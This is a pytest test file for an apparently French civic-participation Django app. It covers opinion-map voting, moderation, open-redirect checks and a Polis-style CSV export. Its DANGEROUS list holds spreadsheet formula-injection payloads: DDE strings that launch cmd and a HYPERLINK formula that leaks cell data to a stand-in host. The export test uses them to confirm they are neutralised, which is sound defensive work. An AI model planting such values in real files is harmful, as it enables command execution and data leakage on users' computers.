from __future__ import annotations

import io
import zipfile

import pytest
from django.core.exceptions import ValidationError
from django.urls import reverse
from django.utils import timezone, translation

from palabre.contributions.services import ActivityClosed
from palabre.opinions import selectors, services
from palabre.opinions.models import OpinionMap, Vote
from palabre.processes.models import Phase
from palabre_analysis import opinions as engine

from ..budgets.conftest import move_to_phase
from ..conftest import login
from ..factories import UserFactory
from .conftest import STATEMENTS, build_map


@pytest.fixture(autouse=True)
def _english():
    with translation.override("en"):
        yield


def url(om, name):
    process = om["process"]
    return reverse(name, kwargs={"org": process.organization.slug, "slug": process.slug})


def test_the_latest_vote_counts_once(om, citizen):
    statement = om["statements"][0]
    services.vote_cast(statement=statement, voter=citizen, value=1)
    services.vote_cast(statement=statement, voter=citizen, value=-1)
    services.vote_cast(statement=statement, voter=citizen, value=-1)
    assert list(Vote.objects.values_list("value", flat=True)) == [-1]


def test_bad_votes_are_refused(om, citizen, agent_a):
    statement = om["statements"][0]
    with pytest.raises(ValidationError, match="agree, disagree or pass"):
        services.vote_cast(statement=statement, voter=citizen, value=2)
    proposed = services.statement_propose(process=om["process"], author=citizen, text="À revoir")
    with pytest.raises(ValidationError, match="not open to votes"):
        services.vote_cast(statement=proposed, voter=citizen, value=1)
    move_to_phase(om["process"], Phase.Kind.SYNTHESIS)
    with pytest.raises(ActivityClosed):
        services.vote_cast(statement=statement, voter=citizen, value=1)
    assert not Vote.objects.exists()


def test_participant_statements_wait_for_a_moderator_and_seeding_skips_repeats(
    om, citizen, agent_a
):
    proposed = services.statement_propose(
        process=om["process"], author=citizen, text="  Plus   de bancs  "
    )
    assert proposed.held_at is not None and proposed.body == "Plus de bancs"
    assert proposed not in selectors.statements_visible(om["process"])
    again = services.statements_seed(process=om["process"], author=agent_a, texts=STATEMENTS)
    assert again == []
    with pytest.raises(ValidationError, match="characters at most"):
        services.statement_propose(process=om["process"], author=citizen, text="x" * 201)
    with pytest.raises(ValidationError, match="Only the local government's agents"):
        services.statements_seed(process=om["process"], author=citizen, texts=["Oui"])


def _vote_in_two_camps(om, n=12):
    voters = [UserFactory() for _ in range(n)]
    for i, voter in enumerate(voters):
        camp = 1 if i < n // 2 else -1
        for j, statement in enumerate(om["statements"]):
            value = camp if j % 2 == 0 else -camp
            if j == 5:
                value = 1  # everyone agrees on the last one
            services.vote_cast(statement=statement, voter=voter, value=value)
    return voters


def test_the_map_is_computed_by_the_task_not_the_page(
    om, client, django_capture_on_commit_callbacks
):
    with django_capture_on_commit_callbacks(execute=False) as callbacks:
        voters = _vote_in_two_camps(om)
    assert len(callbacks) == 1  # one request however many votes, until the task runs
    opinion_map = OpinionMap.objects.get()
    assert opinion_map.result is None and opinion_map.requested_at is not None
    for callback in callbacks:
        callback()
    opinion_map.refresh_from_db()
    result = opinion_map.result
    assert opinion_map.requested_at is None and opinion_map.votes_counted == 72
    assert len(result["groups"]) == 2
    assert {g["size"] for g in result["groups"]} == {6}
    consensus = [row["id"] for row in result["consensus"]]
    assert str(om["statements"][5].pk) in consensus
    login(client, voters[0])
    with translation.override("fr"):
        page = client.get(url(om, "opinion_results")).content.decode()
    assert "Vous" in page and "Vous êtes dans le groupe" in page
    import re

    coordinates = re.findall(r' c[xy]="([^"]*)"', page)
    assert coordinates and all(float(v) >= 0 for v in coordinates)  # "12.5", never "12,5"
    assert voters[1].pseudonym not in page


def test_a_lost_request_is_made_again_after_a_while(
    om, citizen, django_capture_on_commit_callbacks
):
    opinion_map = om["map"]
    lost = timezone.now() - services.STALE_REQUEST / 2
    OpinionMap.objects.filter(pk=opinion_map.pk).update(requested_at=lost)  # task pending
    with django_capture_on_commit_callbacks(execute=False) as callbacks:
        services.vote_cast(statement=om["statements"][0], voter=citizen, value=1)
    assert callbacks == []
    lost = timezone.now() - services.STALE_REQUEST * 2  # its task never ran
    OpinionMap.objects.filter(pk=opinion_map.pk).update(requested_at=lost)
    with django_capture_on_commit_callbacks(execute=True) as callbacks:
        services.vote_cast(statement=om["statements"][1], voter=citizen, value=-1)
    assert len(callbacks) == 1
    opinion_map.refresh_from_db()
    assert opinion_map.requested_at is None and opinion_map.votes_counted == 2


def test_the_vote_page_shows_one_statement_at_a_time_without_javascript(om, client, citizen):
    login(client, citizen)
    seen = set()
    for _ in STATEMENTS:
        page = client.get(url(om, "opinion_vote"))
        statement = page.context["statement"]
        assert statement.pk not in seen
        seen.add(statement.pk)
        response = client.post(url(om, "opinion_vote"), {"statement": statement.pk, "value": 0})
        assert response.status_code == 302
    assert client.get(url(om, "opinion_vote")).context["statement"] is None
    assert Vote.objects.filter(voter=citizen).count() == len(STATEMENTS)
    response = client.post(url(om, "opinion_vote"), {"statement": statement.pk, "value": "x"})
    assert response.status_code == 400


def test_a_vote_through_the_page_only_reaches_the_shown_statements_of_this_map(
    om, client, citizen, org_a, agent_a, django_assert_max_num_queries
):
    login(client, citizen)
    vote_url = url(om, "opinion_vote")
    statement = om["statements"][0]
    # the hot path: session, user, statement with its process and phases, upsert, mark
    with django_assert_max_num_queries(9):
        assert client.post(vote_url, {"statement": statement.pk, "value": 1}).status_code == 302
    assert Vote.objects.get(voter=citizen).value == 1

    other = build_map(org_a, agent_a)["statements"][0]  # another map of the same town
    proposed = services.statement_propose(process=om["process"], author=citizen, text="Neuf")
    hidden = om["statements"][1]
    hidden.is_hidden = True
    hidden.save()
    for target in ("x", "", "-1", "999999", "9" * 30, other.pk, proposed.pk, hidden.pk):
        response = client.post(vote_url, {"statement": target, "value": 1})
        assert response.status_code == 404, target
    om["process"].status = "draft"
    om["process"].save()
    assert client.post(vote_url, {"statement": statement.pk, "value": -1}).status_code == 404
    om["process"].status = "published"
    om["process"].save()
    move_to_phase(om["process"], Phase.Kind.SYNTHESIS)
    response = client.post(vote_url, {"statement": statement.pk, "value": -1})
    assert response.status_code == 400
    assert "que pendant leur phase" in response.content.decode()
    assert list(Vote.objects.values_list("statement_id", "value")) == [(statement.pk, 1)]


def test_the_export_reads_back_as_a_polis_conversation(om, client, tmp_path):
    voters = _vote_in_two_camps(om, n=6)
    data = client.get(url(om, "opinion_export")).content
    folder = tmp_path / "conversation"
    zipfile.ZipFile(io.BytesIO(data)).extractall(folder)
    votes = engine.read_votes(folder)
    assert votes.n_votes == 36 and len(votes.participants) == 6
    assert set(votes.texts.values()) == set(STATEMENTS)
    import csv

    with (folder / "votes.csv").open() as handle:
        voter_ids = {row["voter-id"] for row in csv.DictReader(handle)}
    assert voter_ids == {str(i) for i in range(6)}  # numbered for the export, not account ids
    assert voters[0].email not in (folder / "votes.csv").read_text()


def test_next_statement_prefers_few_votes(om, citizen):
    others = [UserFactory() for _ in range(3)]
    for statement in om["statements"][:5]:
        for voter in others:
            services.vote_cast(statement=statement, voter=voter, value=1)
    chosen = selectors.next_statement(opinion_map=om["map"], voter=citizen)
    assert chosen == om["statements"][5]


def test_agents_seed_release_and_hide_from_the_back_office(om, client, agent_a, citizen):
    proposed = services.statement_propose(process=om["process"], author=citizen, text="Bancs")
    login(client, agent_a)
    edit = reverse(
        "backoffice:opinion_map",
        kwargs={"org": om["process"].organization.slug, "slug": om["process"].slug},
    )
    client.post(edit, {"what": "seed", "texts": "Un nouvel énoncé\n\nUn autre énoncé"})
    assert selectors.statements_visible(om["process"]).count() == len(STATEMENTS) + 2
    act = reverse(
        "backoffice:moderation_act",
        kwargs={"org": om["process"].organization.slug, "pk": proposed.pk},
    )
    response = client.post(act, {"action": "release", "next": edit})
    assert response["Location"] == edit
    proposed.refresh_from_db()
    assert proposed.held_at is None
    client.post(act, {"action": "hide", "public_reason": "Doublon", "next": edit})
    proposed.refresh_from_db()
    assert proposed.is_hidden
    response = client.post(act, {"action": "release", "next": "https://example.com/"})
    assert "example.com" not in response["Location"]


def test_agents_seed_statements_from_the_ideas_of_another_process(om, client, agent_a, org_a):
    from palabre.contributions.services import support_set

    from ..factories import make_contribution, make_process

    box = make_process(org_a, title="Idées")
    liked = make_contribution(box, title="Fermer la rue aux voitures le dimanche")
    make_contribution(box, title="Une idée masquée", is_hidden=True)
    support_set(idea=liked, user=UserFactory(), supported=True)
    login(client, agent_a)
    edit = reverse(
        "backoffice:opinion_map",
        kwargs={"org": om["process"].organization.slug, "slug": om["process"].slug},
    )
    client.post(edit, {"what": "ideas", "ideas-source": box.pk, "ideas-count": 5})
    bodies = set(selectors.statements_visible(om["process"]).values_list("body", flat=True))
    assert "Fermer la rue aux voitures le dimanche" in bodies
    assert "Une idée masquée" not in bodies


def test_agents_seed_statements_from_a_synthesis(om, client, agent_a, org_a):
    from palabre.synthesis import restitution

    from ..factories import make_contribution, make_process

    box = make_process(org_a, title="Idées")
    idea = make_contribution(box, title="Des bancs")
    draft = restitution.draft_get_or_create(process=box)
    section = restitution.section_add(synthesis=draft, title="Mobilier")
    for text in ("Il manque des bancs près du marché.", "Les bancs doivent être à l'ombre."):
        restitution.statement_save(section=section, text=text, evidence_ids=[idea.pk])
    login(client, agent_a)
    edit = reverse(
        "backoffice:opinion_map",
        kwargs={"org": om["process"].organization.slug, "slug": om["process"].slug},
    )
    assert "énoncés d'une synthèse" in client.get(edit).content.decode()
    client.post(edit, {"what": "synthesis", "synthesis-source": box.pk})
    bodies = list(selectors.statements_visible(om["process"]).values_list("body", flat=True))
    assert "Il manque des bancs près du marché." in bodies
    assert "Les bancs doivent être à l'ombre." in bodies
    client.post(edit, {"what": "synthesis", "synthesis-source": box.pk})  # twice: no doubles
    assert selectors.statements_visible(om["process"]).count() == len(bodies)


DANGEROUS = [
    '=HYPERLINK("https://exemple.org/?"&A1;"Cliquez")',
    "+ de bancs",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _export(client, om):
    import csv

    data = client.get(url(om, "opinion_export")).content
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {
            name: list(csv.DictReader(io.StringIO(archive.read(name).decode(), newline="")))
            for name in ("comments.csv", "votes.csv")
        }


def test_the_export_never_starts_a_formula(om, client):
    from ..factories import make_contribution

    for text in DANGEROUS:
        make_contribution(om["process"], kind="statement", body=text)
    bodies = [row["comment-body"] for row in _export(client, om)["comments.csv"]]
    assert bodies == STATEMENTS + ["'" + text for text in DANGEROUS]


def test_the_export_dates_in_the_site_time_zone(om, client, citizen):
    import datetime as dt

    late = dt.datetime(2026, 3, 1, 23, 30, tzinfo=dt.UTC)  # 00:30 on 2 March in Paris
    statement = om["statements"][0]
    type(statement).objects.filter(pk=statement.pk).update(created_at=late)
    services.vote_cast(statement=statement, voter=citizen, value=1)
    Vote.objects.update(updated_at=late)
    files = _export(client, om)
    first = files["comments.csv"][0]
    assert first["datetime"] == "2026-03-02T00:30:00+01:00"
    assert int(first["timestamp"]) == int(late.timestamp())
    assert files["votes.csv"][0]["datetime"] == "2026-03-02T00:30:00+01:00"
